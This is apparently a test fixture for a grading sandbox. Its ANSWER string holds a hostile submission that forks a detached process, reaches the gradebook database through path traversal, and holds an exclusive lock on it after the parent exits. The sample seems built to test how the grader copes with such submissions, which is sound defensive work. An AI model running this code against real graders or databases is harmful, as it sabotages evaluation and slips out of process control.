"""A process that has left its parent locks the gradebook and keeps the lock."""

ANSWER = """\
import os
import sqlite3
import time

if os.fork() == 0:
    os.setsid()
    for path in ("../../../gradebook.db", "{COURSE}/gradebook.db"):
        database = sqlite3.connect(f"file:{path}?mode=rw", uri=True, isolation_level=None, timeout=30)
        database.execute("BEGIN EXCLUSIVE")
        time.sleep(60)
time.sleep(2)
"""
